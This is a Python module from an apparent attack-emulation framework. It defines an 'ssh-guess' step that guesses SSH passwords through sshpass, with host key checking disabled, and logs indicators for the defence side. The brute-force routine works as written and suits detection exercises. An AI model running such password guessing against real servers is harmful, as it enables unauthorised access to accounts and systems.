"""The `ssh-guess` step: lateral movement by SSH password guessing against a server."""

from __future__ import annotations

import asyncio
from typing import ClassVar, Literal

from pydantic import Field

from ...backend.base import ExecResult
from ...model.scenario import STEP_ACTIONS, Ref
from ..defence import Route
from .base import Indicators, Outcome, StepContext, StepKind


@STEP_ACTIONS.register
class SshGuessAction(StepKind):
    """Lateral movement: SSH password guessing against a server, then (optionally) a login."""

    kind: Literal["ssh-guess"]
    source: Ref
    target: Ref
    user: str
    passwords: list[str] = Field(min_length=1)

    order: ClassVar[int] = 70
    host_fields: ClassVar[tuple[str, ...]] = ("source", "target")

    def indicators(self, found: Indicators) -> None:
        """The account guessed and the guessing host's address."""
        found.add("accounts", self.user)
        found.add("addresses", found.address_of(self.source))

    async def run(self, ctx: StepContext) -> Outcome:
        """Each password tried once, leaving failed logins in the auth log."""
        target = ctx.address(self.target, seen_from=self.source)

        async def attempt(password: str) -> ExecResult:
            return await ctx.run(self.source, ["sshpass", "-p", password, "ssh", "-o", "StrictHostKeyChecking=no",
                                               "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=5",
                                               "-o", "PubkeyAuthentication=no", f"{self.user}@{target}", "true"],
                                 timeout=20)

        # Guessing tools try several passwords at once; sshd delays each failure by seconds.
        results = await asyncio.gather(*(attempt(p) for p in self.passwords))
        unreachable = [r for r in results if r.exit_code == 255 and "Permission denied" not in r.stderr]
        if len(unreachable) == len(results):
            return Outcome(False, f"SSH to {self.target} unreachable: {unreachable[0].stderr.strip()[-200:]}")
        return Outcome(True, details={"attempts": len(results) - len(unreachable),
                                      "guessed": any(r.ok for r in results)})

    def route(self, ctx: StepContext) -> Route:
        """From the source to the target."""
        return Route(hosts=(self.source, self.target), addresses=ctx.addresses(self.source, self.target))
